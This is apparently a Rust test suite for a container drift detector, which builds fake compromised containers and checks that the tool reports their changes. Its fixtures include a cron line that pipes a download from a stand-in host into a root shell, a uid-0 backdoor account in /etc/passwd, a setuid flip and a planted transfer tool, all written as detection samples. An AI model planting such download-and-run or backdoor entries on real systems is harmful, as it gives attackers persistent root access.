//! Drift of a running container from its image, read from its root
//! filesystem or only from its overlayfs upper directory (whiteouts as 0/0
//! character devices, opaque directories by xattr), and, where the sandbox
//! allows a real overlay mount, both compared.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::Value;
use stowaway::fixture::{ImageBuilder, LayerBuilder};

use crate::util::*;

/// The image's files: (path, content, mode). Directories are implied.
const IMAGE_FILES: &[(&str, &[u8], u32)] = &[
    ("bin/sh", b"\x7fELF\x02\x01\x01 shell", 0o755),
    ("bin/ls", b"\x7fELF\x02\x01\x01 ls", 0o755),
    ("usr/bin/tool", b"\x7fELF\x02\x01\x01 tool", 0o755),
    ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0o644),
    ("var/cache/app/data", b"v1", 0o644),
    ("opt/plugins/a.so", b"\x7fELF\x02\x01\x01 plugin a", 0o755),
];

fn curl() -> Vec<u8> {
    b"\x7fELF\x02\x01\x01 Usage: curl [options...] <url>".to_vec()
}

fn write(dir: &Path, rel: &str, content: &[u8], mode: u32) {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, content).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn image_layout(dir: &Path) -> String {
    let mut l = LayerBuilder::new();
    for (p, c, m) in IMAGE_FILES {
        l = l.file(p, c, *m);
    }
    ImageBuilder::new()
        .tag("v1")
        .layer(l)
        .build()
        .write_oci_layout(dir)
        .unwrap();
    format!("oci:{}:v1", dir.display())
}

/// The runtime changes, applied to a full root filesystem.
fn change_rootfs(root: &Path) {
    write(root, "tmp/.x/implant", &curl(), 0o755);
    write(
        root,
        "etc/passwd",
        b"root:x:0:0::/root:/bin/sh\nbackdoor:x:0:0::/:/bin/sh\n",
        0o644,
    );
    std::fs::remove_file(root.join("usr/bin/tool")).unwrap();
    std::fs::set_permissions(root.join("bin/ls"), std::fs::Permissions::from_mode(0o4755)).unwrap();
    write(
        root,
        "etc/cron.d/update",
        b"* * * * * root curl -s http://x.example/p | sh\n",
        0o644,
    );
    write(root, "bin/sh", b"\x7fELF\x02\x01\x01 trojaned shell", 0o755);
    write(root, "var/cache/app/data", b"v2", 0o644);
    std::fs::remove_dir_all(root.join("opt/plugins")).unwrap();
    write(
        root,
        "opt/plugins/b.so",
        b"\x7fELF\x02\x01\x01 plugin b",
        0o755,
    );
}

fn drift_json(args: &[&str]) -> (i32, Value) {
    let out = stowaway(args);
    let code = out.status.code().unwrap();
    let v = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    (code, v)
}

/// `stowaway drift FLAG DIR --image IMAGE --format json`.
fn drift_of(flag: &str, dir: &Path, image: &str) -> (i32, Value) {
    drift_json(&[
        "drift",
        flag,
        dir.to_str().unwrap(),
        "--image",
        image,
        "--format",
        "json",
    ])
}

fn delta_paths(v: &Value) -> BTreeSet<String> {
    let mut s = BTreeSet::new();
    for (k, key) in [
        ("added", None),
        ("removed", None),
        ("modified", Some("after")),
        ("permissions", Some("after")),
    ] {
        for f in v["delta"][k].as_array().unwrap() {
            let f = key.map(|k| &f[k]).unwrap_or(f);
            s.insert(format!("{k} {}", f["path"].as_str().unwrap()));
        }
    }
    s
}

fn findings(v: &Value) -> Vec<(String, String, String)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["code"].as_str().unwrap().to_string(),
                f["path"].as_str().unwrap_or("-").to_string(),
                f["action"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn has(fs: &[(String, String, String)], code: &str, path: &str) -> bool {
    fs.iter().any(|(c, p, _)| c == code && p == path)
}

#[test]
fn rootfs_drift_finds_runtime_tools_and_changes() {
    let t = tmp();
    let image = image_layout(&t.path().join("img"));
    let root = t.path().join("rootfs");
    for (p, c, m) in IMAGE_FILES {
        write(&root, p, c, *m);
    }
    // Unchanged container: nothing drifted.
    let (code, v) = drift_of("--rootfs", &root, &image);
    assert_eq!(code, 0, "{v:#}");
    assert!(delta_paths(&v).is_empty(), "{:?}", delta_paths(&v));

    change_rootfs(&root);
    let policy = t.path().join("p.toml");
    std::fs::write(&policy, "[[allow]]\ncode = \"drift-modified\"\npath = \"/var/cache/**\"\nreason = \"the app's cache is written at run time\"\n").unwrap();
    let (code, v) = drift_json(&[
        "drift",
        "--rootfs",
        root.to_str().unwrap(),
        "--image",
        &image,
        "--policy",
        policy.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(code, 1);
    let f = findings(&v);
    assert!(has(&f, "transfer-tool", "/tmp/.x/implant"), "{f:#?}");
    assert!(has(&f, "drift-new-executable", "/tmp/.x/implant"));
    assert!(has(&f, "drift-modified", "/etc/passwd"));
    assert!(has(&f, "drift-deleted", "/usr/bin/tool"));
    assert!(has(&f, "drift-permissions", "/bin/ls"));
    assert!(has(&f, "download-exec-chain", "/etc/cron.d/update"));
    assert!(
        has(&f, "drift-new-executable", "/bin/sh"),
        "replaced binary: {f:#?}"
    );
    let cache = f
        .iter()
        .find(|(c, p, _)| c == "drift-modified" && p == "/var/cache/app/data")
        .unwrap();
    assert_eq!(
        cache.2, "allow",
        "benign runtime write allowed by the policy"
    );
    // A raw memory device in the container is reported, not fatal (root only).
    let mem = root.join("dev/mem");
    std::fs::create_dir_all(mem.parent().unwrap()).unwrap();
    let c = CString::new(mem.as_os_str().as_bytes()).unwrap();
    // SAFETY: valid path; character device 1:1.
    if is_root()
        && unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 1)) } == 0
    {
        let (_, v2) = drift_of("--rootfs", &root, &image);
        assert!(
            has(&findings(&v2), "device-node", "/dev/mem"),
            "{:#?}",
            findings(&v2)
        );
        std::fs::remove_file(&mem).unwrap();
    }
    let implant = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["code"] == "transfer-tool")
        .unwrap();
    assert_eq!(
        implant["severity"], "critical",
        "hidden name raises it: {implant:#}"
    );
    assert!(
        implant["evidence"]
            .to_string()
            .contains("appeared after the container started")
    );
}

fn mknod_whiteout(path: &Path) -> bool {
    let c = CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: valid path; creates a 0/0 character device (an overlay whiteout).
    unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR, 0) == 0 }
}

fn set_opaque(dir: &Path) -> bool {
    let c = CString::new(dir.as_os_str().as_bytes()).unwrap();
    let name = CString::new("trusted.overlay.opaque").unwrap();
    // SAFETY: valid strings and a 1-byte value.
    unsafe { libc::setxattr(c.as_ptr(), name.as_ptr(), b"y".as_ptr().cast(), 1, 0) == 0 }
}

/// The same changes as an overlayfs upper directory.
fn make_upper(upper: &Path) -> bool {
    write(upper, "tmp/.x/implant", &curl(), 0o755);
    write(
        upper,
        "etc/passwd",
        b"root:x:0:0::/root:/bin/sh\nbackdoor:x:0:0::/:/bin/sh\n",
        0o644,
    );
    std::fs::create_dir_all(upper.join("usr/bin")).unwrap();
    write(upper, "bin/ls", b"\x7fELF\x02\x01\x01 ls", 0o4755);
    write(
        upper,
        "etc/cron.d/update",
        b"* * * * * root curl -s http://x.example/p | sh\n",
        0o644,
    );
    write(
        upper,
        "bin/sh",
        b"\x7fELF\x02\x01\x01 trojaned shell",
        0o755,
    );
    write(upper, "var/cache/app/data", b"v2", 0o644);
    write(
        upper,
        "opt/plugins/b.so",
        b"\x7fELF\x02\x01\x01 plugin b",
        0o755,
    );
    mknod_whiteout(&upper.join("usr/bin/tool")) && set_opaque(&upper.join("opt/plugins"))
}

#[test]
fn upperdir_drift_equals_rootfs_drift_and_a_real_overlay_mount() {
    let t = tmp();
    let image = image_layout(&t.path().join("img"));
    let upper = t.path().join("upper");
    if !make_upper(&upper) {
        assert!(
            std::env::var_os("STOWAWAY_REQUIRE_TOOLS").is_none() || !is_root(),
            "root could not create an overlay whiteout or opaque xattr"
        );
        eprintln!("skipping: cannot create 0/0 devices or trusted.* xattrs here (needs root)");
        return;
    }
    let (code, up) = drift_of("--upperdir", &upper, &image);
    assert_eq!(code, 1);
    let root = t.path().join("rootfs");
    for (p, c, m) in IMAGE_FILES {
        write(&root, p, c, *m);
    }
    change_rootfs(&root);
    let (_, full) = drift_of("--rootfs", &root, &image);
    assert_eq!(delta_paths(&up), delta_paths(&full));
    let f = findings(&up);
    assert!(
        has(&f, "drift-deleted", "/usr/bin/tool"),
        "whiteout device: {f:#?}"
    );
    assert!(
        has(&f, "drift-deleted", "/opt/plugins/a.so"),
        "opaque directory: {f:#?}"
    );
    assert!(has(&f, "transfer-tool", "/tmp/.x/implant"));

    // A real overlay mount, where the sandbox allows one.
    let lower = t.path().join("lower");
    for (p, c, m) in IMAGE_FILES {
        write(&lower, p, c, *m);
    }
    let (work, merged) = (t.path().join("work"), t.path().join("merged"));
    std::fs::create_dir_all(&work).unwrap();
    std::fs::create_dir_all(&merged).unwrap();
    let opts = format!(
        "lowerdir={},upperdir={},workdir={}",
        lower.display(),
        upper.display(),
        work.display()
    );
    let mounted = std::process::Command::new("mount")
        .args([
            "-t",
            "overlay",
            "overlay",
            "-o",
            &opts,
            merged.to_str().unwrap(),
        ])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    if !mounted {
        eprintln!("skipping the real overlay mount: not permitted in this sandbox");
        return;
    }
    let (_, via_mount) = drift_of("--rootfs", &merged, &image);
    let _ = std::process::Command::new("umount").arg(&merged).status();
    assert_eq!(delta_paths(&via_mount), delta_paths(&up));
}

/// Mount an overlay of `lower` and `upper` on `merged`; whether the sandbox
/// allowed it.
fn mount_overlay(lower: &Path, upper: &Path, work: &Path, merged: &Path) -> bool {
    for d in [upper, work, merged] {
        std::fs::create_dir_all(d).unwrap();
    }
    let opts = format!(
        "lowerdir={},upperdir={},workdir={}",
        lower.display(),
        upper.display(),
        work.display()
    );
    std::process::Command::new("mount")
        .args(["-t", "overlay", "overlay", "-o", &opts])
        .arg(merged)
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Issue 14: under the drift DaemonSet's own capabilities (no
/// `CAP_SYS_ADMIN`) the `trusted.overlay.opaque` marker of a real overlay
/// upper dir is unreadable, and drift used to report the container as
/// unchanged. With the capability the hidden files are deletions; without
/// it drift exits 2 naming the capability and prints no partial document.
#[cfg_attr(not(has_tool = "setpriv"), ignore = "needs setpriv (util-linux)")]
#[test]
fn upperdir_drift_without_cap_sys_admin_fails_naming_it() {
    let t = tmp();
    let image = image_layout(&t.path().join("img"));
    let lower = t.path().join("lower");
    for (p, c, m) in IMAGE_FILES {
        write(&lower, p, c, *m);
    }
    let (upper, work, merged) = (
        t.path().join("upper"),
        t.path().join("work"),
        t.path().join("merged"),
    );
    if !is_root() || !mount_overlay(&lower, &upper, &work, &merged) {
        assert!(
            std::env::var_os("STOWAWAY_REQUIRE_TOOLS").is_none(),
            "CI runs as root and can mount an overlay"
        );
        eprintln!("skipping: needs root and an overlay mount");
        return;
    }
    // Replacing a directory through the mount makes the kernel mark the
    // new one opaque in the upper dir.
    std::fs::remove_dir_all(merged.join("opt/plugins")).unwrap();
    write(
        &merged,
        "opt/plugins/b.so",
        b"\x7fELF\x02\x01\x01 plugin b",
        0o755,
    );
    let _ = std::process::Command::new("umount").arg(&merged).status();

    let (code, v) = drift_of("--upperdir", &upper, &image);
    assert_eq!(code, 1, "{v:#}");
    assert!(
        has(&findings(&v), "drift-deleted", "/opt/plugins/a.so"),
        "the opaque directory is read with CAP_SYS_ADMIN: {v:#}"
    );

    let out = std::process::Command::new("setpriv")
        .args(["--inh-caps=-sys_admin", "--bounding-set=-sys_admin", "--"])
        .arg(env!("CARGO_BIN_EXE_stowaway"))
        .args(["drift", "--upperdir", upper.to_str().unwrap()])
        .args(["--image", &image, "--format", "json"])
        .env("XDG_DATA_HOME", data_home())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("needs CAP_SYS_ADMIN") && err.contains("trusted.overlay.opaque"),
        "{err}"
    );
    assert!(out.stdout.is_empty(), "no partial document");
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// A host root laid out like real runtime state: one Docker container (with
/// an implant in its upper dir), one containers-storage container (clean),
/// one containerd task (its mounted rootfs, clean).
#[test]
fn containers_are_found_in_runtime_state_and_checked_against_approvals() {
    let t = tmp();
    let img_dir = t.path().join("img");
    let image = image_layout(&img_dir);
    let built = {
        let mut l = LayerBuilder::new();
        for (p, c, m) in IMAGE_FILES {
            l = l.file(p, c, *m);
        }
        ImageBuilder::new().tag("v1").layer(l).build()
    };
    let config_digest = built.config_digest.to_string();
    let db = t.path().join("store.db");
    let out = stowaway(&[
        "baseline",
        "approve",
        &image,
        "--name",
        "app:v1",
        "--db",
        db.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let host = t.path().join("host");
    // Docker.
    let d = host.join("var/lib/docker");
    let id = "d0c4e3f00ba1deadbeef";
    std::fs::create_dir_all(d.join("containers").join(id)).unwrap();
    std::fs::write(
        d.join("containers").join(id).join("config.v2.json"),
        serde_json::json!({"ID": id, "Name": "/web", "Image": config_digest, "Config": {"Image": "app:v1"}}).to_string(),
    )
    .unwrap();
    std::fs::create_dir_all(d.join("image/overlay2/layerdb/mounts").join(id)).unwrap();
    std::fs::write(
        d.join("image/overlay2/layerdb/mounts")
            .join(id)
            .join("mount-id"),
        "m0unt1d",
    )
    .unwrap();
    write(
        &d.join("overlay2/m0unt1d/diff"),
        "tmp/.x/implant",
        &curl(),
        0o755,
    );
    // containers-storage.
    let cs = host.join("var/lib/containers/storage");
    std::fs::create_dir_all(cs.join("overlay-containers")).unwrap();
    std::fs::write(
        cs.join("overlay-containers/containers.json"),
        serde_json::json!([{"id": "c5c5c5", "names": ["db"], "image": config_digest.trim_start_matches("sha256:"), "layer": "l4y3r"}]).to_string(),
    )
    .unwrap();
    std::fs::create_dir_all(cs.join("overlay/l4y3r/diff")).unwrap();
    // containerd.
    let bundle = host.join("run/containerd/io.containerd.runtime.v2.task/k8s.io/cd1234");
    std::fs::create_dir_all(&bundle).unwrap();
    std::fs::write(
        bundle.join("config.json"),
        serde_json::json!({"root": {"path": "rootfs"}, "annotations": {"io.kubernetes.cri.image-name": "app:v1", "io.kubernetes.cri.container-name": "api"}}).to_string(),
    )
    .unwrap();
    for (p, c, m) in IMAGE_FILES {
        write(&bundle.join("rootfs"), p, c, *m);
    }

    let h = host.to_str().unwrap();
    let dbs = db.to_str().unwrap();
    let out = stowaway(&[
        "drift",
        "--all",
        "--host-root",
        h,
        "--db",
        dbs,
        "--format",
        "json",
    ]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let by_runtime = |r: &str| {
        v.as_array()
            .unwrap()
            .iter()
            .find(|x| x["container"]["runtime"] == r)
            .unwrap_or_else(|| panic!("{r}: {v:#}"))
    };
    assert_eq!(by_runtime("docker")["verdict"], "fail");
    assert!(
        findings(by_runtime("docker"))
            .iter()
            .any(|(c, p, _)| c == "transfer-tool" && p == "/tmp/.x/implant")
    );
    assert_eq!(by_runtime("containers-storage")["verdict"], "pass");
    assert_eq!(
        by_runtime("containerd")["verdict"],
        "pass",
        "{:#}",
        by_runtime("containerd")
    );
    // One container by name or ID prefix.
    let out = stowaway(&["drift", "--container", "db", "--host-root", h, "--db", dbs]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = stowaway(&[
        "drift",
        "--container",
        "d0c4",
        "--host-root",
        h,
        "--db",
        dbs,
    ]);
    assert_eq!(out.status.code(), Some(1));
    // Without an approval for the image, a clear error.
    let empty = t.path().join("empty.db");
    let out = stowaway(&[
        "drift",
        "--container",
        "d0c4",
        "--host-root",
        h,
        "--db",
        empty.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no approved image"));
}

/// Issue 14: the drift DaemonSet example runs with the capabilities drift
/// needs (CAP_SYS_ADMIN for overlay upper dirs, or it exits 2) and takes its
/// baselines from a volume, not a ConfigMap (which stops at 1 MiB).
#[cfg_attr(
    not(has_tool = "py-yaml"),
    ignore = "needs Python with PyYAML and jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn drift_daemonset_example_grants_sys_admin_and_mounts_baselines_from_a_volume() {
    let file = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/kubernetes/drift-daemonset.yaml"
    );
    let out = std::process::Command::new(python())
        .args([
            "-c",
            "import json, sys, yaml; print(json.dumps(list(yaml.safe_load_all(open(sys.argv[1])))))",
            file,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let docs: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let ds = docs.iter().find(|d| d["kind"] == "DaemonSet").unwrap();
    let spec = &ds["spec"]["template"]["spec"];
    let drift = (spec["containers"].as_array().unwrap().iter())
        .find(|c| c["name"] == "drift")
        .unwrap();
    let add = &drift["securityContext"]["capabilities"]["add"];
    assert!(
        add.as_array().unwrap().contains(&Value::from("SYS_ADMIN")),
        "{add}"
    );
    let baselines = (spec["volumes"].as_array().unwrap().iter())
        .find(|v| v["name"] == "baselines")
        .unwrap();
    assert!(baselines.get("configMap").is_none(), "{baselines}");
    assert!(baselines["persistentVolumeClaim"]["claimName"].is_string());
}
